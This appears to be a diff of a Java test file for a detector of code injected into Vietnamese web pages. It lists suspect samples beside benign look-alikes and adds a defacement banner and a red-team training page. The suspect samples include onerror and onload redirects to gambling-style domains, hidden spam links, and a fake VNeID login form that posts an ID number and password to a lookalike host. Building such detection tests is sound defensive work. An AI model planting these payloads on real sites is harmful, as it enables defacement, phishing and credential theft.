@@ -40,6 +40,7 @@ final class InjectedCodeTest {
         "<img src=x onerror=\"window.location.href='https://qh88-game.art'\">",
         "<svg onload=\"top.location.replace('https://hot51-live.app')\"></svg>",
         "<style>:root{--v:none}.w9{display:var(--v)}</style><div class=w9><a href='https://lam-dep-24h.online/'>a</a> <a href='https://noithat-xinh.store/'>b</a></div>",
+        "<div style='position:absolute'><marquee>H4CK3D BY ~VN-C0BR4~</marquee></div>",
         "<h2>VNeID</h2><form><input name=cccd><input type=password name=mk><button formaction='https://vneid-gov.help/save'>Gửi</button></form>",
       })
   void injected_code_is_suspect(String added) {
@@ -52,6 +53,7 @@ final class InjectedCodeTest {
         "<script>eval(function(p,a,c,k,e,d){return p}('0.1(\\'2\\').3=4',5,5,'document|getElementById|clock|innerHTML|time'.split('|'),0,{}))</script>",
         "<script>var s='';s+='/tin-tuc/';s+='moi';location.href=s;</script>",
         "<script>var k=[12,45,67,89,12,34,56,78,90,11],x=0;for(var i in k)x^=k[i]^7;</script>",
+        "<h1>Tập huấn an toàn thông tin</h1><p>Hacked by Red Team: diễn tập xử lý sự cố mã độc</p>",
         "<img src='/anh.jpg' onerror=\"this.src='/no-image.png'\">",
         "<div onmouseover=\"this.style.color='red'\">Thông báo</div>",
         "<style>:root{--mau:#fff}.w9{background:var(--mau);color:#333}</style><div class=w9><a href='https://www.chinhphu.vn'>Chính phủ</a></div>",
